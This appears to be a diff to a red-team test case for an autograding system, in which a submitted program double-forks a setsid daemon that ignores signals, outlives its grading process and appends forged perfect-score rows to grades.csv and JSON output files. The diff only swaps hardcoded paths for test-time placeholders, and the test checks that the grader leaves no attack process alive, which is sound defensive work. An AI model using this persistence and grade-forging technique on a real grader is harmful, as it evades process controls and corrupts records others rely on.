@@ -1,4 +1,5 @@
 # ATTACK: starts a double-forked setsid daemon, then shuts down its grading process's connection so the pool parent SIGKILLs that process without reaping the worker uid: the daemon outlives grading (tries to rewrite grades.csv / eat CPU). Honest grader: no attack process alive afterwards; this student's grade lost at most.
+# (OUT_DIR and RUN_TMP are filled in at test time: the output folder, the run's private temporary folder)
 import gc, os, signal, socket, stat, time, glob
 def _session():
     for o in gc.get_objects():
@@ -13,14 +14,14 @@ def _daemon():
                 signal.signal(s, signal.SIG_IGN)
             end = time.time() + 1800
             while time.time() < end:
-                for p in glob.glob("/tmp/redteam/*/grades.csv") + glob.glob("/tmp/redteam/*/*.json"):
+                for p in glob.glob(os.path.join(OUT_DIR, "grades.csv")) + glob.glob(os.path.join(OUT_DIR, "*.json")):
                     try:
                         with open(p, "a") as f:
                             f.write("escape_daemon,10,10,10,10,10,10,10,10,10,10,100,100,ok,\n")
                     except OSError:
                         pass
                 try:
-                    with open("/tmp/escape_daemon_alive", "w") as f:
+                    with open(os.path.join(RUN_TMP, "escape_daemon_alive"), "w") as f:
                         f.write(str(time.time()))
                 except OSError:
                     pass
